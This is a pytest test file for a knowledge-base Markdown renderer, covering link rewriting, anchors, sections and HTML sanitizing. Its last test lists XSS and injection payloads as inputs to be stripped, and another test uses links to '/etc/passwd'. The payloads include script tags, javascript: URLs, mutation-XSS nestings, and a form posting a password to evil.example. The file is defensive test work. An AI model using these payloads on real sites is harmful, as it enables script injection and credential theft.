"""Markdown as pages and search need it: safe HTML, anchors, sections, addresses with their lines."""

from __future__ import annotations

from pathlib import Path

import pytest

from kb.files.folder import Folder
from kb.rendering.links import Resolver
from kb.rendering.render import Rendered, render

FOLDER = Folder(
    root=Path(),
    articles=("apps/phone.md", "start.md", "two-factor/lost phone.md", "two-factor/schlüssel.md"),
    descriptions=("two-factor/_category.md",),
    images=frozenset({"img/a b.png"}),
    problems=(),
)


def rendered(markdown: str, path: str = "apps/phone.md", title: str = "Title") -> Rendered:
    return render(markdown, path=path, resolve=Resolver.of(FOLDER), title=title, first_line=10, max_line_chars=20_000)


@pytest.mark.parametrize(
    ("href", "url"),
    [
        ("../start.md", "/articles/start"),
        ("../start.md#set-up", "/articles/start#set-up"),
        ("/start.md", "/articles/start"),
        ("/articles/start#a", "/articles/start#a"),
        ("../START.MD", "/articles/start"),
        ("../start", "/articles/start"),
        ("../two-factor/lost phone.md", "/articles/lost-phone"),
        ("../two-factor/lost%20phone.md?x=1#a%20b", "/articles/lost-phone#a%20b"),
        ("<../two-factor/lost phone.md>", "/articles/lost-phone"),
        ("../two-factor/schl%C3%BCssel.md#über-uns", "/articles/schlüssel#über-uns"),
        (r"..\start.md", "/articles/start"),
        ("../two-factor/_category.md", "/categories/two-factor"),
        ("../two-factor/", "/categories/two-factor"),
        ("#here", "#here"),
        ("mailto:a@example.org", "mailto:a@example.org"),
        ("../img/a%20b.png", "/media/img/a%20b.png"),
    ],
)
def test_a_link_becomes_the_address_on_the_site(href: str, url: str) -> None:
    result = rendered(f"[text]({href})")

    assert result.html == f'<p><a href="{url}">text</a></p>'
    assert result.problems == ()


@pytest.mark.parametrize("href", ["https://example.org/a?b=1&c=2", "//example.org/a"])
def test_a_link_to_another_site_is_kept_and_tells_it_nothing(href: str) -> None:
    result = rendered(f"[text]({href})")

    assert 'href="https://example.org/a' in result.html
    assert 'rel="noopener noreferrer"' in result.html
    assert result.links == ()


@pytest.mark.parametrize(
    "href",
    ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:x", "file:///etc/passwd", "../../etc/passwd", "blob:x"],
)
def test_a_link_that_cannot_be_served_leaves_its_text_and_a_problem(href: str) -> None:
    result = rendered(f"Text\n\n[text]({href})")

    assert result.html == "<p>Text</p>\n<p><a>text</a></p>"
    assert [(problem.rule, problem.line) for problem in result.problems] == [("link", 12)]


def test_a_link_to_no_article_is_inert_and_remembered_with_its_line() -> None:
    result = rendered("Text\n\n[text](nowhere.md#x)")

    assert result.html.endswith("<p><a>text</a></p>")
    assert [(link.path, link.anchor, link.line, link.slug) for link in result.links] == [
        ("apps/nowhere.md", "x", 12, "")
    ]


def test_the_same_link_twice_has_two_lines_and_code_hides_none() -> None:
    result = rendered('[a](../start.md) `x`\n\n<a href="../start.md">b</a>\n\n[c][1]\n\n[1]: ../start.md "Title"\n')

    assert [link.line for link in result.links] == [10, 12, 16]


def test_an_image_beside_the_article_is_served_lazily() -> None:
    result = rendered('![A key](../img/a%20b.png "Key")\n\n<img src="../img/x.JPG" width="10" onerror="x" style="x">')

    assert '<img alt="A key" src="/media/img/a%20b.png" title="Key" loading="lazy">' in result.html
    assert '<img src="/media/img/x.JPG" width="10" loading="lazy" alt="">' in result.html
    assert result.images == {"img/a b.png": 10, "img/x.JPG": 12}


@pytest.mark.parametrize(
    "src", ["https://example.org/a.png", "//example.org/a.png", "a.svg", "../../a.png", "", "a.html"]
)
def test_an_image_that_is_not_served_leaves_its_description(src: str) -> None:
    result = rendered(f"See ![a key]({src}).")

    assert result.html == "<p>See a key.</p>"
    assert [(problem.rule, problem.line) for problem in result.problems] == [("image", 10)]


def test_sections_hold_all_text_up_to_the_next_heading() -> None:
    result = rendered(
        "Lead &amp; more.\n\n## Set up\n\n- one\n- H<sub>2</sub>O\n\n```\ncode <x>\n```\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n### Then\n\nEnd[^1].\n\n[^1]: Note.\n"
    )

    assert [(s.anchor, s.heading, s.level, s.text) for s in result.sections] == [
        ("", "", 0, "Lead & more."),
        ("set-up", "Set up", 2, "one H2O code <x> a b 1 2"),
        ("then", "Then", 3, "End. Note."),
    ]


@pytest.mark.parametrize(
    ("heading", "anchor"),
    [
        ("Set up *two-factor*", "set-up-two-factor"),
        ("Über Schlüssel", "über-schlüssel"),
        ("パスワードを忘れた", "パスワードを忘れた"),
        ("हिन्दी", "हिन्दी"),
        ("What's `550 5.7.1`?", "whats-550-571"),
        ("!!!", "section"),
        ("Prices {#what-it-costs}", "what-it-costs"),
    ],
)
def test_an_anchor_is_its_heading_in_lower_case_with_hyphens(heading: str, anchor: str) -> None:
    result = rendered(f"## {heading}\n")

    assert [section.anchor for section in result.sections] == [anchor]
    assert f'<h2 id="{anchor}">' in result.html
    assert anchor in result.anchors


def test_anchors_are_unique_even_beside_ids_written_by_hand() -> None:
    result = rendered('<a id="set-up"></a>\n\n## Set up\n\n## Set up\n\n## Set up-1\n\n<h2 id="own">Own</h2>\n')

    assert [section.anchor for section in result.sections] == ["set-up-1", "set-up-2", "set-up-1-1", "own"]
    assert "set-up" in result.anchors


def test_a_first_heading_that_repeats_the_title_is_left_out() -> None:
    assert rendered("# Title\n\nText.\n").html == "<p>Text.</p>"


def test_links_back_to_a_title_that_was_left_out_still_lead_there() -> None:
    result = rendered("# Title\n\n## Title\n\n[Back to the top](#title)\n")

    assert result.html.startswith('<div id="title"></div>\n<h2 id="title-1">')
    assert result.anchors == ("title", "title-1")


def test_another_first_level_heading_goes_down_to_the_second() -> None:
    assert rendered("# Other\n\n## Under\n").html == '<h2 id="other">Other</h2>\n<h2 id="under">Under</h2>'


def test_several_first_level_headings_take_the_others_down_with_them() -> None:
    levels = [section.level for section in rendered("# One\n\n## Under\n\n# Two\n").sections]

    assert levels == [2, 3, 2]


def test_code_below_a_numbered_step_stays_in_the_list() -> None:
    result = rendered("1. One\n\n   ```bash\n   make\n     run\n   ```\n\n2. Two\n")

    assert result.html.count("<ol>") == 1
    assert '<pre><code class="language-bash">make\n  run\n</code></pre>' in result.html


def test_a_list_that_goes_on_after_a_picture_goes_on_counting() -> None:
    assert '<ol start="3">' in rendered("3. Three\n4. Four\n").html


def test_the_marks_of_the_house_are_rendered() -> None:
    result = rendered('!!! warning "Careful"\n    Text.\n\nTerm\n:   Meaning\n\n[TOC]\n\n## One\n')

    assert '<div class="admonition warning">\n<p class="admonition-title">Careful</p>' in result.html
    assert "<dt>Term</dt>\n<dd>Meaning</dd>" in result.html
    assert '<ul class="toc"><li><a href="#one">One</a></li></ul>' in result.html


def test_long_code_with_many_entities_comes_through_whole() -> None:
    code = "<a href='x'>&amp;</a> " * 2_000

    assert rendered(f"```\n{code}\n```\n").sections[0].text == code.strip()


def test_a_table_is_aligned_without_a_style() -> None:
    html = rendered("| a |\n|--:|\n| 1 |\n").html

    assert '<td align="right">1</td>' in html
    assert "style" not in html


def test_a_heading_that_jumps_is_named_at_its_line() -> None:
    result = rendered("## One\n\nText\n\n#### Deep one\n")

    assert [(problem.rule, problem.line) for problem in result.problems] == [("heading-jump", 14)]


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        '<img src="x.png" onerror="alert(1)">',
        '<a href="java&#115;cript:alert(1)">x</a>',
        '<a href=" javascript:alert(1)">x</a>',
        "[x](java\tscript:alert(1))",
        "[x](<javascript:alert(1)>)",
        "<javascript:alert(1)>",
        "![x](javascript:alert(1))",
        "[x][1]\n\n[1]: javascript:alert(1)",
        '<svg onload="alert(1)"><script>alert(1)</script></svg>',
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        '<form action="https://evil.example"><input name="password"></form>',
        '<div style="position:fixed">x</div>',
        '<p class="site-header">x</p>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        '## <img src="x" onerror="alert(1)"> {#"onclick="x}',
        "```<script>\nalert(1)\n```",
        '``` x"onclick=alert(1)\n</code></pre><script>alert(1)</script>\n```',
        '[x](https://example.org/" onclick="alert(1))',
        "<base href='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<style>@import 'https://evil.example'</style>",
        "<object data='x'></object><embed src='x'>",
        '<a href="https://x.example" target="_blank" ping="https://evil.example">x</a>',
    ],
)
def test_nothing_dangerous_comes_through(markdown: str) -> None:
    """Looked at as a browser would see it: by the elements and attributes that are left."""
    from html.parser import HTMLParser  # noqa: PLC0415 - only this test needs it

    class Look(HTMLParser):
        seen: list[tuple[str, str, str]] = []  # noqa: RUF012 - filled below, per class made here

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            self.seen += [(tag, "", ""), *((tag, name, value or "") for name, value in attrs)]

    look = Look()
    look.feed(rendered(f"Before\n\n{markdown}\n\nAfter").html)

    tags = {tag for tag, _, _ in look.seen}
    assert not tags & {"script", "style", "iframe", "form", "input", "svg", "math", "object", "embed", "base", "meta"}
    for _, name, value in look.seen:
        assert not name.startswith("on")
        assert name not in {"style", "target", "ping", "srcdoc", "action"}
        assert "script:" not in value.lower()
        assert value != "site-header"
